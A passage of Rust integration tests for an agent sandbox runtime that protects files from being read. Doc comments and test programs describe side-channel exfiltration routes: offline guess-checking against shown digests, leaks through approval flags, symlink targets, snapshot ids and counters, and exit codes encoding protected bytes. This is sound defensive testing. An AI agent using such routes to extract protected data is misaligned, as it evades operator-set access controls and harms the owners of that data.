    ] {
        let (value, receipt) = attempt(&runtime, &program(call));
        assert_eq!(value, "['PermissionError', 'PermissionError']", "{call}");
        assert_eq!(denied(&receipt), ["config/prod.yml", "config/prod2.yml"], "{call}");
    }
    // A recursive removal of the directory that holds it: refused, on record.
    let (value, receipt) = attempt(
        &runtime,
        "try:\n    vsh_remove('config', recursive=True)\n    r = 'removed'\nexcept OSError as e:\n    r = type(e).__name__\nr",
    );
    assert_eq!(value, "'PermissionError'");
    assert_eq!(denied(&receipt), ["config"]);
    assert!(dir.path().join("config/prod.yml").exists());
}

/// The same probe's next step (sec50 F1): a mode change keeps a protected
/// file's bytes and an append extends them, so the after state's digest was
/// a digest of the secret (or of the secret and a known suffix), shown in
/// the receipt, checked against guesses offline. No digest of either side
/// of such a change is shown, and the diff's own digest is withheld.
#[test]
fn a_mode_change_or_an_append_of_a_file_protected_from_reading_shows_no_digest_of_it() {
    let dir = workspace(&[("creds.cfg", "api_key=hunter2\n"), ("readme", "ok\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"creds.cfg\"\naccess = [\"content-read\"]\n";
    let runtime = Runtime::open(config(dir.path()).with_policy_text(policy).with_bash(vsh::BashConfig::new())).unwrap();
    // Past the clock's tick since the files were written: stamps stand for bytes.
    std::thread::sleep(std::time::Duration::from_millis(150));
    let secret_digest = vsh::lower::vsh_types::BlobId::of(b"api_key=hunter2\n").to_hex();
    let appended_digest = vsh::lower::vsh_types::BlobId::of(b"api_key=hunter2\n!").to_hex();
    for (who, language, code) in [
        ("bash chmod", vsh::Language::Bash, "chmod 600 creds.cfg"),
        ("monty append", vsh::Language::Monty, "vsh_write('creds.cfg', '!', append=True)"),
        ("bash append", vsh::Language::Bash, "printf '!' >> creds.cfg"),
    ] {
        let request = RunRequest::new(code).with_language(language).with_detail(vsh::ReceiptDetail::Full);
        let receipt = runtime.preview(&request).unwrap_or_else(|error| panic!("{who}: {error:?}"));
        assert_ne!(receipt.state, TransactionState::Denied, "{who}");
        assert_eq!(receipt.changes.len(), 1, "{who}: {:?}", receipt.changes);
        let change = &receipt.changes[0];
        for state in [change.before, change.after].into_iter().flatten() {
            assert_eq!((state.content, state.stamp), (None, None), "{who}: {change:?}");
        }
        assert!(receipt.diff_withheld, "{who}");
        let document = format!("{:?}", vsh::document::ReceiptDocument::from(&receipt));
        assert!(!document.contains(&secret_digest) && !document.contains(&appended_digest), "{who}: {document}");
        if let Some(shown) = runtime.show(receipt.transaction).unwrap() {
            let document = format!("{:?}", vsh::document::ReceiptDocument::from(&shown));
            assert!(!document.contains(&secret_digest) && !document.contains(&appended_digest), "{who}: {document}");
        }
    }
}

/// sec51 F1: appending to a private file protected from reading makes its
/// digest known to the run, and a world-readable copy of a right guess
/// raised the `permission-change` flag (pending) where a wrong one was
/// auto-approved. sec51 F2: a file changed moments before the run (the
/// agent's own commit of an append) was hashed, and an overwrite with its
/// very bytes was no change. Neither the decision nor the diff may depend on
/// whether the guess was right.
#[test]
fn a_guess_at_a_file_protected_from_reading_decides_nothing_and_one_changed_moments_ago_is_refused_whatever_the_guess()
{
    use std::os::unix::fs::PermissionsExt;
    let secret = "pw=tiger\n";
    let dir = workspace(&[("creds.cfg", secret), ("readme", "ok\n")]);
    let creds = dir.path().join("creds.cfg");
    std::fs::set_permissions(&creds, std::fs::Permissions::from_mode(0o600)).unwrap();
    let policy = "version = 1\n[[protect]]\npattern = \"creds.cfg\"\naccess = [\"content-read\"]\n";
    let runtime = Runtime::open(config(dir.path()).with_policy_text(policy).with_bash(vsh::BashConfig::new())).unwrap();
    let guesses = ["pw=lion\\n", "pw=tiger\\n"];
    // Changed just now: an overwrite is refused, right guess or wrong; one
    // the clock has passed by is a change, right guess or wrong. Never no change.
    let mut refused = 0;
    for _ in 0..5 {
        for guess in guesses {
            std::fs::write(&creds, secret).unwrap();
            match runtime.preview(&RunRequest::new(&format!("vsh_write('creds.cfg', '{guess}')"))) {
                Err(error) => {
                    assert!(
                        matches!(&error, vsh::VshError::Vfs(vsh::lower::vsh_vfs::VfsError::UnsettledUnreadable { path })
                            if path.as_str() == "creds.cfg"),
                        "{error:?}"
                    );
                    refused += 1;
                }
                Ok(receipt) => assert_eq!(receipt.changed_paths, 1, "{guess}: {:?}", receipt.changes),
            }
        }
    }
    assert!(refused > 0, "a file written just before the run is refused");
    std::thread::sleep(std::time::Duration::from_millis(150));
    let mut decisions = Vec::new();
    for guess in guesses {
        for (language, code) in [
            (
                vsh::Language::Monty,
                format!("vsh_write('creds.cfg', 'X', append=True)\nvsh_write('copy.txt', '{guess}')"),
            ),
            (vsh::Language::Bash, format!("printf X >> creds.cfg\nprintf '{guess}' > copy.txt")),
        ] {
            let receipt = runtime.preview(&RunRequest::new(&code).with_language(language)).unwrap();
            assert_ne!(receipt.state, TransactionState::Denied, "{code}: {:?}", receipt.decision);
            // What it decides, not the metrics (the guess's own length is in them).
            let flags = match &receipt.decision {
                vsh::RuntimeDecision::PendingApproval(manifest) => manifest.flags.clone(),
                _ => Vec::new(),
            };
            decisions.push((language, receipt.changed_paths, receipt.state, flags));
        }
    }
    assert_eq!(decisions[..2], decisions[2..], "the right guess decides as a wrong one");
}

/// sec53 F3: the git-repository judge parsed the bytes of a file protected
/// from reading after an append, so its flag told whether they are git
/// configuration and which section they end in. Such a file is judged as
/// one that may start programs, whatever it holds.
#[test]
fn the_git_judge_reads_no_bytes_a_program_may_not_read() {
    let dir = workspace(&[("a.cfg", "[auth]\n\ttoken = abc123\n"), ("b.cfg", "pin=4821\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"*.cfg\"\naccess = [\"content-read\"]\n";
    let runtime = Runtime::open(config(dir.path()).with_policy_text(policy)).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(150));
    let flags = |file: &str| {
        let code = format!("vsh_write('{file}', '[core]\\n\\tfsmonitor = x\\n', append=True)");
        let receipt = runtime.preview(&RunRequest::new(&code)).unwrap();
        let flags = match &receipt.decision {
            vsh::RuntimeDecision::PendingApproval(manifest) => manifest.flags.clone(),
            _ => Vec::new(),
        };
        (receipt.state, flags)
    };
    assert_eq!(flags("a.cfg"), flags("b.cfg"), "git configuration or not, decided alike");
}

/// sec53 F1: a `content-read` rule on a symlink protects where it points,
/// as it protects a file's bytes: `readlink` (bounded Bash, a real
/// command's, which FUSE serves) and any follow of it (Monty's `stat()`,
/// whose size told the target among sized candidates) are denied, right
/// target or wrong; a look at the link itself is not.
#[test]
fn the_target_of_a_symlink_protected_from_reading_is_neither_read_nor_followed() {
    let dir = workspace(&[("vault-4821", "x"), ("vault-1111", "xx"), ("sub/x", "x")]);
    std::os::unix::fs::symlink("vault-4821", dir.path().join("key.lnk")).unwrap();
    std::os::unix::fs::symlink("sub", dir.path().join("dir.lnk")).unwrap();
    let policy = "version = 1\n[[protect]]\npattern = \"*.lnk\"\naccess = [\"content-read\"]\n";
    let runtime =
        Runtime::open(config(dir.path()).with_policy_text(policy).with_commands().with_bash(vsh::BashConfig::new()))
            .unwrap();
    let mut requests = vec![
        ("monty stat", vsh::Language::Monty, "from pathlib import Path\nPath('key.lnk').stat().st_size".to_owned()),
        ("monty read", vsh::Language::Monty, "from pathlib import Path\nPath('key.lnk').read_text()".to_owned()),
        ("bash readlink", vsh::Language::Bash, "readlink key.lnk".to_owned()),
        ("bash test", vsh::Language::Bash, "[ -e key.lnk ] && echo there".to_owned()),
        // A path below it: whether it leads out was a denial, inside an
        // ELOOP the program could catch.
        (
            "monty below",
            vsh::Language::Monty,
            "try:\n    open('dir.lnk/x').read()\nexcept OSError:\n    pass".to_owned(),
        ),
    ];
    if vsh_integration_tests::candidates_available() {
        requests.push(("command readlink", vsh::Language::Command, r#"["readlink", "key.lnk"]"#.to_owned()));
        requests.push(("command ls", vsh::Language::Command, r#"["ls", "-l", "key.lnk"]"#.to_owned()));
    }
    for (who, language, code) in &requests {
        let outcome = runtime.preview(&RunRequest::new(code).with_language(*language));
        let text = format!("{outcome:?}");
        // The target's name (its digits alone may occur in a random digest).
        assert!(!text.contains("vault-4821"), "{who}: {text}");
        match outcome {
            Ok(receipt) => assert_eq!(receipt.state, TransactionState::Denied, "{who}: {receipt:?}"),
            Err(error) => assert!(error.refused_accesses().is_some(), "{who}: {error:?}"),
        }
    }
    // The link itself may be looked at.
    let look = "from pathlib import Path\nPath('key.lnk').is_symlink()";
    let receipt = runtime.preview(&RunRequest::new(look)).unwrap();
    assert_eq!(receipt.state, TransactionState::AutoApproved, "{:?}", receipt.decision);
}

/// sec54 F1: work an operator made under a per-run policy (`--profile
/// strict` drops the workspace's `[[protect]]` rules) may read a file the
/// workspace's policy protects; its snapshot id hashed that file's digest,
/// and an agent reviewing it under the workspace's policy (MCP `vsh_show`)
/// checked guesses offline. Such a review withholds the snapshot id.
#[test]
fn a_review_withholds_the_snapshot_of_work_that_read_what_the_readers_policy_protects() {
    let dir = workspace(&[("creds.cfg", "pin=4821\n"), ("readme", "ok\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"creds.cfg\"\naccess = [\"content-read\"]\n";
    Runtime::open(config(dir.path())).unwrap().record_workspace_policy(policy).unwrap();
    let operator = Runtime::open(
        config(dir.path())
            .with_policy_profile(vsh::PolicyProfile::Strict)
            .with_durable_previews(vsh::DurablePreviews::default()),
    )
    .unwrap();
    let program = "from pathlib import Path\nPath('readme').write_text(Path('creds.cfg').read_text())";
    let made = operator.preview(&RunRequest::new(program)).unwrap();
    assert_ne!(made.state, TransactionState::Denied, "{:?}", made.decision);
    drop(operator);
    let reader = Runtime::open(config(dir.path())).unwrap();
    let shown = reader.show(made.transaction).unwrap().expect("stored");
    assert!(shown.snapshot_withheld, "{shown:?}");
    let document = vsh::document::ReceiptDocument::from(&shown);
    assert_eq!(document.base_snapshot, "withheld");
    assert!(!format!("{document:?}").contains(&made.base_snapshot.to_hex()));
    // Work that read nothing so protected shows its snapshot.
    let plain = reader.preview(&RunRequest::new("vsh_write('b.txt', 'b')")).unwrap();
    assert!(!plain.snapshot_withheld);
}

/// sec55 F2: the same for work that only looked at what the reader's policy
/// hides whole (its size and mode were cracked from the snapshot id), or
/// listed a directory under another policy (a hidden name among the names).
/// Work made under the reader's own policy that reads and lists keeps it.
#[test]
fn a_review_withholds_the_snapshot_of_work_that_looked_at_or_listed_what_the_reader_hides() {
    let dir = workspace(&[("vault.cfg", "k\n"), ("readme", "ok\n"), ("src/a.txt", "a\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"vault.cfg\"\naccess = \"all\"\n";
    Runtime::open(config(dir.path())).unwrap().record_workspace_policy(policy).unwrap();
    let durable = || config(dir.path()).with_durable_previews(vsh::DurablePreviews::default());
    let operator = Runtime::open(durable().with_policy_profile(vsh::PolicyProfile::Strict)).unwrap();
    let looked = "from pathlib import Path\nPath('readme').write_text(str(Path('vault.cfg').stat().st_size))";
    let listed = "import os\nfrom pathlib import Path\nPath('readme').write_text(str(len(os.listdir('src'))))";
    let made: Vec<_> = [looked, listed]
        .iter()
        .map(|program| {
            let made = operator.preview(&RunRequest::new(program)).unwrap();
            assert_ne!(made.state, TransactionState::Denied, "{:?}", made.decision);
            made.transaction
        })
        .collect();
    drop(operator);
    let own = Runtime::open(durable()).unwrap();
    let read = "import os\nfrom pathlib import Path\nPath('readme').write_text(str(os.listdir('src')) + Path('src/a.txt').read_text())";
    let kept = own.preview(&RunRequest::new(read)).unwrap().transaction;
    drop(own);
    let reader = Runtime::open(config(dir.path())).unwrap();
    for transaction in made {
        let shown = reader.show(transaction).unwrap().expect("stored");
        assert!(shown.snapshot_withheld, "{transaction:?}");
        // Nor the counters that measured the same reads (sec56 F2: the
        // bytes read gave the hidden file's size).
        assert_eq!((shown.execution.read_bytes, shown.execution.directory_entries), (0, 0), "{transaction:?}");
    }
    assert!(!reader.show(kept).unwrap().expect("stored").snapshot_withheld);
}

/// ux61 4: a policy recorded after work was made, which only narrowed what
/// may change (`writable_roots`, a rule refusing a modification), withheld
/// that work's whole review as if its run had read what the policy
/// protects. The policy it was made under is known (kept when replaced)
/// and refuses the same reads: its review is shown. A policy that hides
/// more still withholds it.
#[test]
fn a_policy_that_only_narrows_changes_withholds_no_earlier_review() {
    let dir = workspace(&[("vault.cfg", "k\n"), ("old.txt", "old\n"), ("src/a.txt", "a\n")]);
    let first = "version = 1\n[[protect]]\npattern = \"vault.cfg\"\naccess = \"all\"\n";
    Runtime::open(config(dir.path())).unwrap().record_workspace_policy(first).unwrap();
    let listed_and_deleted = "import os\nfrom pathlib import Path\nprint(os.listdir('src'))\nPath('old.txt').unlink()";
    let made = Runtime::open(config(dir.path())).unwrap().preview(&RunRequest::new(listed_and_deleted)).unwrap();
    assert_eq!(made.state, TransactionState::PendingApproval, "{:?}", made.decision);
    let narrower = format!(
        "{first}[[protect]]\npattern = \"pyproject.toml\"\naccess = \"modify\"\n[defaults]\nwritable_roots = [\"src\"]\n"
    );
    Runtime::open(config(dir.path())).unwrap().record_workspace_policy(&narrower).unwrap();
    let archived: Vec<_> = std::fs::read_dir(dir.path().join(".vsh/data"))
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.file_name().unwrap().to_string_lossy().starts_with("policy-"))
        .collect();
    assert_eq!(archived.len(), 1, "the replaced policy is kept: {archived:?}");
    assert_eq!(std::fs::read_to_string(&archived[0]).unwrap(), first);
    let reader = Runtime::open(config(dir.path())).unwrap();
    let shown = reader.show(made.transaction).unwrap().expect("stored");
    assert!(!shown.snapshot_withheld && !shown.diff_withheld, "{shown:?}");
    assert!(!shown.warnings.contains(&vsh::Warning::Withheld), "{:?}", shown.warnings);
    assert_eq!(shown.changes.len(), 1, "{shown:?}");
    assert_eq!(shown.changes[0].path.as_str(), "old.txt");
    assert!(format!("{:?}", shown.output).contains("a.txt"), "{:?}", shown.output);
    assert_eq!(reader.review(made.transaction).unwrap().len(), 1);
    // A policy that hides more than the one it was made under: its listing
    // may hold a name this one hides, so it is withheld as before.
    drop(reader);
    let hiding = format!("{narrower}[[protect]]\npattern = \"src/**\"\naccess = \"all\"\n");
    let hiding = hiding.replace("writable_roots = [\"src\"]", "writable_roots = [\"docs\"]");
    Runtime::open(config(dir.path())).unwrap().record_workspace_policy(&hiding).unwrap();
    let reader = Runtime::open(config(dir.path())).unwrap();
    let shown = reader.show(made.transaction).unwrap().expect("stored");
    assert!(shown.snapshot_withheld && shown.warnings.contains(&vsh::Warning::Withheld), "{shown:?}");
    assert!(shown.changes.is_empty() && reader.review(made.transaction).unwrap().is_empty());
    // A kept policy is taken only for the digest it parses to: one planted
    // under the name of the policy the work was made under is none.
    std::fs::write(&archived[0], &hiding).unwrap();
    let shown = reader.show(made.transaction).unwrap().expect("stored");
    assert!(shown.snapshot_withheld && shown.changes.is_empty(), "{shown:?}");
}

/// `text` with every run of 16 or more hex digits (an id, a digest) cut out.
fn without_digests(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut run = String::new();
    for c in text.chars().chain(std::iter::once(' ')) {
        if c.is_ascii_hexdigit() {
            run.push(c);
            continue;
        }
        if run.len() < 16 {
            out.push_str(&run);
        }
        run.clear();
        out.push(c);
    }
    out
}

/// sec57 F1, F2: an operator's run under a per-run policy moved a file the
/// workspace protects from reading to a readable path, printed it and
/// returned it, and an agent read all three with `vsh_show`; it also created
/// files the workspace hides whole, whose names, sizes and modes the review
/// listed. Reviewed under the workspace's policy, such work shows no output,
/// hunk or digest, and no hidden path.
#[test]
fn a_review_of_work_that_touched_what_the_reader_protects_shows_none_of_it() {
    let dir = workspace(&[("private/salary.txt", "4321\n"), ("notes/keep.txt", "k\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"private/**\"\naccess = [\"content-read\"]\n\
                  [[protect]]\npattern = \"hr/**\"\naccess = \"all\"\n";
    Runtime::open(config(dir.path())).unwrap().record_workspace_policy(policy).unwrap();
    let durable = || config(dir.path()).with_durable_previews(vsh::DurablePreviews::default());
    let operator = Runtime::open(durable().with_policy_profile(vsh::PolicyProfile::Strict)).unwrap();
    let program = "vsh_move('private/salary.txt', 'notes/salary.txt')\nt = vsh_read('notes/salary.txt')\n\
                   print(t)\nvsh_mkdir('hr')\nvsh_write('hr/offer-bob.txt', 'x' * 777)\nt";
    let made = operator.preview(&RunRequest::new(program)).unwrap();
    assert_ne!(made.state, TransactionState::Denied, "{:?}", made.decision);
    drop(operator);
    let reader = Runtime::open(config(dir.path())).unwrap();
    let shown = reader.show(made.transaction).unwrap().expect("stored");
    let review = reader.review(made.transaction).unwrap();
    // (Digests are left out of what is searched: "777" is in one of
    // sixteen of them.)
    let text = without_digests(&format!("{shown:?}{review:?}"));
    assert!(!text.contains("4321"), "{text}");
    assert!(!text.contains("offer-bob") && !text.contains("777"), "{text}");
    // Nor a name its renames moved (stop 48's `Renamed` warning).
    assert!(!text.contains("salary"), "{text}");
    assert!(shown.snapshot_withheld && shown.diff_withheld);
    assert!(shown.warnings.contains(&vsh::Warning::Withheld) && shown.warnings.contains(&vsh::Warning::HiddenChanges));
    // Not even the paths it made: their names may be what it read (sec58 2).
    assert!(shown.changes.is_empty() && review.is_empty(), "{shown:?} {review:?}");
    // Nor how many: a count can be a byte's value (sec59 F2).
    assert_eq!(shown.changed_paths, 0);
    // Nor its program, whose text names what it read (sec65 L2); a rerun,
    // the operator's, still has it.
    assert!(reader.stored_program(made.transaction).unwrap().is_none());
    assert!(reader.program_to_run_again(made.transaction).unwrap().is_some_and(|p| p.code.contains("salary")));
    // Under the policy it was made under, its reviewer sees it whole.
    drop(reader);
    let own = Runtime::open(durable().with_policy_profile(vsh::PolicyProfile::Strict)).unwrap();
    let whole = own.show(made.transaction).unwrap().expect("stored");
    assert!(format!("{whole:?}").contains("offer-bob") && !whole.snapshot_withheld);
    assert!(own.stored_program(made.transaction).unwrap().is_some_and(|p| p.code.contains("salary")));
    // A move alone, reading nothing: the moved bytes are still the protected ones.
    own.reject(made.transaction, 1).unwrap();
    drop(own);
    let own =
        Runtime::open(durable().with_policy_profile(vsh::PolicyProfile::Strict).with_bash(vsh::BashConfig::new()))
            .unwrap();
    let moved = own
        .preview(&RunRequest::new("mv private/salary.txt notes/pay.txt").with_language(vsh::Language::Bash))
        .unwrap();
    let reader = Runtime::open(config(dir.path())).unwrap();
    let review = reader.review(moved.transaction).unwrap();
    assert!(review.iter().all(|file| file.hunks == Err(vsh::NoHunks::Protected)), "{review:?}");
    let shown = reader.show(moved.transaction).unwrap().expect("stored");
    assert!(!format!("{shown:?}{review:?}").contains("4321") && shown.snapshot_withheld, "{shown:?}");
    // Touching such a path at all taints what the run printed, even with
    // nothing read that this policy protects.
    drop(reader);
    own.reject(moved.transaction, 2).unwrap();
    let removed = own.preview(&RunRequest::new("vsh_remove('private/salary.txt')\nprint('gone')")).unwrap();
    drop(own);
    let reader = Runtime::open(config(dir.path())).unwrap();
    let shown = reader.show(removed.transaction).unwrap().expect("stored");
    assert!(shown.warnings.contains(&vsh::Warning::Withheld), "{shown:?}");
    assert!(!format!("{:?}", shown.output).contains("gone"), "{:?}", shown.output);
    // Nor the status it exited with: a byte it chose, here one it read
    // (sec60 N1: `exit $(od ... private/db.conf)`).
    drop(reader);
    let own =
        Runtime::open(durable().with_policy_profile(vsh::PolicyProfile::Strict).with_bash(vsh::BashConfig::new()))
            .unwrap();
    own.reject(removed.transaction, 3).unwrap();
    let exited = own
        .preview(
            &RunRequest::new("touch notes/n\nexit $(wc -c < private/salary.txt)")
                .with_language(vsh::Language::Bash)
                .with_failure_accepted(),
        )
        .unwrap();
    let status = |receipt: &vsh::Receipt| match &receipt.output {
        vsh::ExecutionOutput::Bash(result) => result.exit_code,
        other => panic!("{other:?}"),
    };
    assert_eq!(status(&exited), 5, "the run's own receipt says how it ended");
    drop(own);
    let reader = Runtime::open(config(dir.path())).unwrap();
    let shown = reader.show(exited.transaction).unwrap().expect("stored");
    assert!(shown.output_withheld() && status(&shown) != 5, "{:?}", shown.output);
    let document = vsh::document::ReceiptDocument::from(&shown);
    assert_eq!(document.exit_code, None);
}

/// A small disk of `size` holding an empty workspace directory `ws`, or
/// `None` where mounting one is not possible (not root; a failure under
/// `VSH_REQUIRE_SANDBOX`).
fn workspace_on_a_small_disk(size: &str) -> Option<(vsh_integration_tests::SmallDisk, std::path::PathBuf)> {
    if !vsh_integration_tests::is_root() {
        assert!(std::env::var_os("VSH_REQUIRE_SANDBOX").is_none(), "needs root to mount a small disk");
        return None;
    }
    let disk = vsh_integration_tests::SmallDisk::mount(size);
    let ws = disk.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    Some((disk, ws))
}

/// sec54 F2: what a commit keeps of the bytes it replaces (for the review of
/// committed work) is never kept at the commit's cost: on a disk with too
/// little left, nothing is kept and the commit lands.
#[test]
fn a_commit_keeps_what_it_replaces_only_where_the_disk_has_room() {
    let Some((disk, ws)) = workspace_on_a_small_disk("16m") else { return };
    let old = "o".repeat(900_000);
    std::fs::write(ws.join("big.txt"), &old).unwrap();
    let runtime = Runtime::open(config(&ws)).unwrap();
    let edit = "from pathlib import Path\nt = Path('big.txt').read_text()\nPath('big.txt').write_text('n' + t[1:])";
    let made = runtime.preview(&RunRequest::new(edit)).unwrap();
    // Leave about 3 MiB: room for the commit, not for four times the old bytes.
    let available = |path: &std::path::Path| vsh::lower::vsh_sandbox::fs_space(path).unwrap().available;
    let fill = available(disk.path()).saturating_sub(3 << 20);
    std::fs::write(disk.path().join("fill"), vec![0_u8; usize::try_from(fill).unwrap()]).unwrap();
    let committed = runtime.commit(made.transaction, 0);
    let old_blob = vsh::lower::vsh_types::BlobId::of(old.as_bytes()).to_hex();
    let kept = ws.join(".vsh/data/blobs").join(&old_blob[..2]).join(&old_blob[2..]).exists();
    drop(disk);
    assert_eq!(committed.unwrap().state, TransactionState::Committed);
    assert!(!kept, "nothing kept where the disk has no room for it");
}

/// sec55 F3: keeping file by file, each while the disk had room for it,
/// left no room for the commit's own staging: a commit that fit failed.
/// What is kept is stored once the commit has landed, never before.
#[test]
fn what_a_commit_keeps_never_takes_the_room_its_staging_needs() {
    let Some((disk, ws)) = workspace_on_a_small_disk("64m") else { return };
    for n in 0..12 {
        std::fs::write(ws.join(format!("f{n:02}.txt")), format!("{n}").repeat(900_000)).unwrap();
    }
    let runtime = Runtime::open(config(&ws)).unwrap();
    let edit = "from pathlib import Path\nfor n in range(12):\n    p = Path(f'f{n:02}.txt')\n    \
                p.write_text('x' + p.read_text()[1:])";
    // Room for a busy machine: 10.8 MB read and written is no second's work beside other tests.
    let budget = vsh::ExecutionBudget {
        max_duration: std::time::Duration::from_secs(30),
        max_request_duration: std::time::Duration::from_mins(1),
        ..Default::default()
    };
    let made = runtime.preview(&RunRequest::new(edit).with_budget(budget)).unwrap();
    // Room for the commit's 10.8 MB, not for that and 12 kept files besides.
    let available = |path: &std::path::Path| vsh::lower::vsh_sandbox::fs_space(path).unwrap().available;
    let fill = available(disk.path()).saturating_sub(14 << 20);
    std::fs::write(disk.path().join("fill"), vec![0_u8; usize::try_from(fill).unwrap()]).unwrap();
    let committed = runtime.commit(made.transaction, 0);
    let written = std::fs::read_to_string(ws.join("f11.txt")).map(|text| text.starts_with('x'));
    drop(disk);
    assert_eq!(committed.map(|receipt| receipt.state).map_err(|e| e.to_string()), Ok(TransactionState::Committed));
    assert!(written.unwrap());
}
